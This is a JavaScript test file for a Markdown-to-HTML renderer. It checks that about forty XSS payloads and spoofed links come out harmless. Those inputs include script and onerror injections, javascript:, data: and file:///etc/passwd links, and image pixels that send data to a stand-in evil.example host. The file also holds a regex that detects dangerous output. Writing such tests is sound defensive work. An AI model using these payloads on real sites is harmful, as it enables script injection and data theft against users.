import assert from "node:assert/strict"
import { test } from "node:test"

import { parseBlocks } from "../../../static/js/text/markdown.js"

const render = (source) =>
  parseBlocks(source, { references: {} })
    .map(({ html }) => html)
    .join("")

// What must never come out of Markdown, before any sanitiser has seen it.
const DANGEROUS =
  /<(script|iframe|object|embed|img|svg|math|style|form|input|base|meta|link|video|audio|source)\b|<[^>]*\s(on\w+|style|src|srcset|formaction|background|ping)\s*=|href="(?!https?:|mailto:)/i

const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>@import 'https://evil.example'</style>",
  "<base href='https://evil.example'>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/accounts/logout/)",
  "<javascript:alert(1)>",
  "![x](https://evil.example/pixel.png?q=secret)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x][p]\n\n[p]: https://evil.example/pixel.png",
  "[![x](https://evil.example/a.png)](https://good.example)",
  '![x](https://evil.example/"onerror="alert(1))',
  '[x](https://good.example "onmouseover=alert(1)")',
  '[x](https://good.example/"onmouseover="alert(1))',
  '```"onload=alert(1)\n</code></pre><script>alert(1)</script>\n```',
  "```js <img src=x onerror=alert(1)>\ncode\n```",
  "`<img src=x onerror=alert(1)>`",
  "| a |\n|:--|\n| <img src=x onerror=alert(1)> |",
  "| a |\n|:-:|\n| ![x](https://evil.example/a.png) |",
  "# <script>alert(1)</script>",
  "> <script>alert(1)</script>",
  "- <img src=x onerror=alert(1)>",
  "https://evil.example/<script>alert(1)</script>",
  "[x]: javascript:alert(1)\n\n[x]",
]

for (const attack of ATTACKS) {
  test(`nothing dangerous comes out of ${JSON.stringify(attack)}`, () => {
    const html = render(attack)

    assert.doesNotMatch(html.replaceAll(/&(lt|gt|quot);/g, ""), DANGEROUS)
    assert.notEqual(html.trim(), "")
  })
}

test("headings nest below the page's own title, whichever a reply begins with", () => {
  const levels = (source) => [...render(source).matchAll(/<h(\d)>/g)].map(([, level]) => Number(level))

  assert.deepEqual(levels("# a\n## b\n## c\n### d\n# e"), [2, 3, 3, 4, 2])
  assert.deepEqual(levels("### a\n### b\n#### c\n## d"), [2, 2, 3, 2])
  assert.deepEqual(levels("a\n===\n\nb\n---\n\n###### c"), [2, 3, 4])
})

test("an image becomes a link that says so, and nothing is fetched", () => {
  const html = render("![a chart](https://example.com/x.png)")

  const target = '<span class="link-target"> (example.com)</span>'
  assert.equal(html, `<p><a href="https://example.com/x.png">Image: a chart${target}</a></p>\n`)
})

test("an image inside a link is text, because links cannot be nested", () => {
  const html = render("[![a chart](https://a.example/x.png)](https://b.example)")

  const target = '<span class="link-target"> (b.example)</span>'
  assert.equal(html, `<p><a href="https://b.example/">Image: a chart${target}</a></p>\n`)
})

test("a link's text shows no character that hides or turns the others", () => {
  const html = render("[goo\u202Egle\u200B.com\u2066](https://evil.example)")

  const target = '<span class="link-target"> (evil.example)</span>'
  assert.equal(html, `<p><a href="https://evil.example/">google.com${target}</a></p>\n`)
})

test("where a link leads is seen, and it leads where the page checked", () => {
  assert.match(render("[https://bank.example](https://evil.example)"), /> \(evil\.example\)<\/span><\/a>/)
  assert.match(render("[**bank** `site`](https://evil.example)"), /> \(evil\.example\)<\/span><\/a>/)
  assert.match(render("[i](https:admin/)"), /<a href="https:\/\/admin\/">i<span class="link-target"> \(admin\)</)
  assert.match(render("[i][1]\n\n[1]: https:admin/"), /<a href="https:\/\/admin\/">/)
  assert.doesNotMatch(render("https://good.example/a and <https://good.example>"), /link-target/)
})

test("text outside links keeps its joiners: they matter in many scripts", () => {
  assert.match(render("می\u200Cخواهم"), /می\u200Cخواهم/)
})

test("a whole address is a link, a file name is not", () => {
  assert.match(render("see https://example.com/a"), /<a href="https:\/\/example.com\/a">/)
  assert.doesNotMatch(render("see README.md and main.py"), /<a/)
})

test("a cell's alignment is a class, because styles are refused", () => {
  const html = render("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")

  assert.match(
    html,
    /<td class="cell--left">1<\/td>\n<td class="cell--center">2<\/td>\n<td class="cell--right">3<\/td>/,
  )
  assert.doesNotMatch(html, /style/)
})

test("a code block tells its language and whether it is closed", () => {
  const [open] = parseBlocks("```python title=x\nprint(1)\n", {})
  const [closed] = parseBlocks("```python\nprint(1)\n```", {})

  assert.deepEqual([open.language, open.isOpenFence, open.code], ["python", true, "print(1)\n"])
  assert.deepEqual([closed.language, closed.isOpenFence, closed.code], ["python", false, "print(1)\n"])
})

test("a task of a list shows whether it is done", () => {
  const html = render("- [ ] open\n- [x] *done*\n- [z] no task\n- [x](https://example.org) a link")

  assert.match(html, /<li>☐ open<\/li>/)
  assert.match(html, /<li>☑ <em>done<\/em><\/li>/)
  assert.match(html, /<li>\[z\] no task<\/li>/)
  assert.match(html, /<li><a [^>]*>x<span [^>]*> \(example\.org\)<\/span><\/a> a link<\/li>/)
})

test("brackets outside a list are what they are", () => {
  assert.match(render("[x] marks the spot"), /<p>\[x\] marks the spot<\/p>/)
})

test("a single line break is kept: in a poem, in an address", () => {
  assert.equal(render("Roses are red\nViolets are blue"), "<p>Roses are red<br>\nViolets are blue</p>\n")
})
